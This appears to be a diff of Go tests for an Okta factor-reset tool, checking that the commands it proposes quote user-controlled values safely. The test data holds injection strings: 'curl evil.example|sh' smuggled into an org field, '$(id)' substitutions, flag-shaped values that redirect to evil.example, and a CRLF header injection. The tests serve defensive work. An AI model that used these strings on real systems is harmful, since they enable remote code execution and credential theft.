@@ -226,6 +226,10 @@ func TestProposedCommandsAreQuoted(t *testing.T) {
 			t.Errorf("%q: %s", args, stderr)
 		}
 	}
+	flag := org.Add(oktatest.User{Login: "--org-url=https://evil.example", Factors: []oktatest.Factor{{Type: "sms", Provider: "OKTA", Status: "PENDING_ACTIVATION"}}})
+	if _, stderr := onTerminal(t, org, io.Discard, "verify", flag.ID, "sms"); !strings.Contains(stderr, "factors activate "+flag.ID+" ") {
+		t.Errorf("a login that looks like a flag: %s", stderr)
+	}
 	for _, args := range [][]string{{"verify", login, "sms", "--language", "fr\r\nX-A: b"}} {
 		start := time.Now()
 		code, stderr := onTerminal(t, org, io.Discard, args...)
@@ -235,7 +239,8 @@ func TestProposedCommandsAreQuoted(t *testing.T) {
 	}
 }
 
-// A page proposes a command made of a file that somebody else may have made.
+// A page proposes a command made of a file that somebody else may have made: no text of it is more
+// than one word, none becomes a flag, and none sends the credentials to another org.
 func TestProposedPlanIsQuoted(t *testing.T) {
 	m := results.Manifest{
 		DryRun: true, Org: "x:1;curl evil.example|sh #", Planned: []string{"reset_factors"}, Runs: []results.Run{{}},
@@ -244,5 +249,21 @@ func TestProposedPlanIsQuoted(t *testing.T) {
 	want := `oktareset reset --confirm 'x:1;curl evil.example|sh #:2' '$(id).csv'`
 	if got := results.PlanCommand(&m, "$(id).csv"); got != want {
 		t.Errorf("%s, want %s", got, want)
+	}
+	m.Org, m.Ticket, m.Input.File = "acme.okta.com", "$(id)", "--org-url=https://evil.example"
+	for url, flag := range map[string]string{
+		"https://evil.example": "", "https://acme.okta.com.evil.example": "", "https://acme.okta.com@evil.example": "", "x": "",
+		"https://acme.okta.com": " --org-url https://acme.okta.com", "https://ACME.okta.com/": " --org-url https://ACME.okta.com/",
+		"https://acme.okta.com:443": " --org-url https://acme.okta.com:443", "https://acme.okta.com:8443": "",
+	} {
+		m.Runs[0].Options = map[string]string{"org-url": url}
+		want := "oktareset reset" + flag + " --ticket '$(id)' --confirm acme.okta.com:2 ./--sandbox.csv"
+		if got := results.PlanCommand(&m, "--sandbox.csv"); got != want {
+			t.Errorf("%s, want %s", got, want)
+		}
+		want = "oktareset reset --dry-run --resume" + flag + " --output nowhere.plan.csv ./--org-url=https://evil.example"
+		if got := results.GoOnCommand(&m, "nowhere.plan.csv", "--resume"); got != want {
+			t.Errorf("%s, want %s", got, want)
+		}
 	}
 }
